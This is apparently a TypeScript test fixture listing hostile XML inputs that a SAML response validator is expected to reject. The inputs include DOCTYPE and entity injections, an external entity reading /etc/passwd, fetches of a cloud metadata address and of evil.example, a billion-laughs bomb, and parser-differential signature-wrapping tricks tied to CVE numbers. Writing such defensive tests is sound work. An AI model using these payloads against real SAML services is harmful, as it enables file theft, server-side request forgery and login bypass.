import { altered, family, genuine, swap, type Build, type HostileCase } from './case.js';
import { evilOf, partsOf } from './forgery.js';

const row = family('DTD and entities');

const before =
  (prefix: string): Build =>
  (context) =>
    prefix + genuine(context);

const insideNameId = (markup: string): Build => altered(/(?<=<NameID[^>]*>..)/, markup);

const LAUGHS =
  '<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">';

export const dtdCases: readonly HostileCase[] = [
  row('a DOCTYPE', 'doctype_forbidden', before('<!DOCTYPE Response>'), 'CVE-2026-41674'),
  row('a DOCTYPE in lower case', 'doctype_forbidden', before('<!doctype Response>')),
  row(
    'a DOCTYPE with an internal entity',
    'doctype_forbidden',
    before('<!DOCTYPE r [<!ENTITY x "admin">]>'),
  ),
  row(
    'an external entity, and its use as the name ID',
    'doctype_forbidden',
    (context) =>
      '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>' +
      swap(genuine(context), /(?<=<NameID[^>]*>)[^<]*/, '&x;'),
    'CVE-2024-52596',
  ),
  row(
    'an external entity of another server',
    'doctype_forbidden',
    before('<!DOCTYPE r [<!ENTITY x SYSTEM "http://169.254.169.254/latest/meta-data/">]>'),
    'CVE-2024-52596',
  ),
  row(
    'a parameter entity',
    'doctype_forbidden',
    before('<!DOCTYPE r [<!ENTITY % x SYSTEM "http://evil.example/"> %x;]>'),
  ),
  row(
    'an external subset',
    'doctype_forbidden',
    before('<!DOCTYPE r SYSTEM "http://e.example/d">'),
  ),
  row(
    'a system identifier that ends a DOCTYPE for another reader',
    'doctype_forbidden',
    before("<!DOCTYPE r SYSTEM '\"><x>'>"),
    'CVE-2021-21366',
    'CVE-2026-41674',
  ),
  row('a billion laughs', 'doctype_forbidden', before(`<!DOCTYPE r [${LAUGHS}]>`)),
  row(
    'default attributes by a DTD',
    'doctype_forbidden',
    before('<!DOCTYPE r [<!ATTLIST Assertion ID CDATA "_evil">]>'),
  ),
  row(
    'an ID attribute by a DTD',
    'doctype_forbidden',
    before('<!DOCTYPE r [<!ATTLIST Response Destination ID #REQUIRED>]>'),
  ),
  row(
    'the ID of a second assertion from an entity',
    'doctype_forbidden',
    (context) => {
      const { xml, assertion, signature } = partsOf(context);
      const evil = evilOf(assertion.replace(signature, '')).replace('"_evil"', '"&i;"');
      const [, id = ''] = / ID="([^"]*)"/.exec(assertion) ?? [];
      return `<!DOCTYPE r [<!ENTITY i "${id}">]>` + swap(xml, assertion, evil + assertion);
    },
    'CVE-2025-23369',
  ),
  row(
    'a DOCTYPE that two readers end at different places',
    'doctype_forbidden',
    (context) => {
      const { xml, assertion, evil } = partsOf(context);
      return `<!DOCTYPE r [<!NOTATION n SYSTEM "]><!--">]>${swap(xml, assertion, evil)}<!--">]>${xml}-->`;
    },
    'CVE-2025-25291',
    'CVE-2025-66567',
  ),
  row('a DOCTYPE behind the message', 'doctype_forbidden', (context) => {
    return `${genuine(context)}<!DOCTYPE r>`;
  }),
  row('an element declaration inside', 'doctype_forbidden', insideNameId('<!ELEMENT x ANY>')),
  row('an entity of HTML', 'entity_forbidden', insideNameId('&nbsp;')),
  row('an undeclared entity', 'entity_forbidden', insideNameId('&admin;')),
  row('a predefined entity in other case', 'entity_forbidden', insideNameId('&AMP;')),
  row(
    'an entity in an attribute',
    'entity_forbidden',
    altered(' Version="2.0"', ' Version="&two;"'),
  ),
  row('quotation marks by entity, in a signed value', 'accepted', (context) =>
    swap(genuine(context, { displayName: '"\'' }), '>"\'<', '>&quot;&apos;<'),
  ),
  row('characters by reference', 'accepted', altered('>B.Simon@', '>&#66;.&#x53;imon&#64;')),
];
